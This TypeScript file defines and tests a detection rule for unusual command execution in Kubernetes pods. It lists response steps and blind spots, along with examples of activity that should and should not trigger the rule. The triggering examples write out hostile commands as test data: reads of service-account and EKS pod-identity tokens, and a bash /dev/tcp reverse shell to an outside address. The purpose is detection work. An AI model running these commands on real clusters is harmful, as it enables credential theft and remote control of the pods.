import { defineAnomalousDeeds } from '../kits/anomalous-deeds.ts';
import { after, APPLICATION, atFirst, byProgram, byThief, LOOKS, shell } from '../kits/deed-stories.ts';

export default defineAnomalousDeeds({
  type: 'Execution:Kubernetes/AnomalousBehavior.ExecInPod',
  tactic: 'ExecInPod',
  title: 'A command was run in a pod in an unusual way',
  why: 'A shell in a container has the credentials and the network access of the pod.',
  asks: 'Did an identity run a command in a pod that does not usually do so, or a command that only intruders run?',
  attack: ['T1609'],
  severity: 'Medium',
  did: 'ran commands in pods of',
  asff: 'TTPs/AnomalousBehavior/Execution:Kubernetes-ExecInPod',
  respond: [
    'Ask whoever ran the command what it was for; the log has the command in the URI of the request.',
    'If it was not them, remove their permissions in the cluster, replace the pod, and rotate the credentials of its service account and its secrets.',
  ],
  blindTo: [
    'Commands that are run through the kubelet, without the API server.',
    'What is typed into an open shell: the log only has the command that opened it.',
    'Pods of kube-system: Execution:Kubernetes/ExecInKubeSystemPod reports everything that is run there.',
  ],
  falsePositives: ['Somebody who looks into pods for the first time because something is broken.'],
  examples: {
    fires: {
      'the token of the pod is read': () =>
        atFirst(shell('shop', 'web-0', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token')),
      'the token is read by which a pod gets a role': () =>
        atFirst(
          shell('shop', 'web-0', 'cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token'),
        ),
      'a reverse shell is opened': () => atFirst(shell('shop', 'web-0', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1')),
      'the token of an application, used outside the cluster': () =>
        after(20, APPLICATION, shell('shop', 'db-0', 'sh', byThief('shop', 'web'))),
    },
    quiet: {
      'a developer looks into a pod': () => atFirst(shell('shop', 'web-0')),
      'for the first time after a month': () => after(30, LOOKS, shell('shop', 'web-0')),
      'for the first time, with another client': () =>
        after(30, LOOKS, shell('shop', 'web-0', 'sh', { userAgent: 'k9s/0.50.0 (linux/amd64)' })),
      'every day, and today while travelling': () =>
        after(30, [...LOOKS, shell('shop', 'web-0')], shell('shop', 'web-0', 'sh', { sourceIPs: ['203.0.113.9'] })),
      'a build runner, in each of its pods': () =>
        atFirst(
          ...Array.from({ length: 30 }, (_, i) => shell('ci', `runner-${i}`, 'sh -c make', byProgram('ci', 'runner'))),
        ),
      'a backup freezes a file system every night': () =>
        after(
          10,
          [shell('shop', 'db-0', 'fsfreeze --freeze /data', byProgram('velero', 'velero'))],
          shell('shop', 'db-0', 'fsfreeze --freeze /data', byProgram('velero', 'velero')),
        ),
      'a path that only looks similar': () => atFirst(shell('shop', 'web-0', 'cat /app/serviceaccounts/tokens.md')),
    },
  },
});
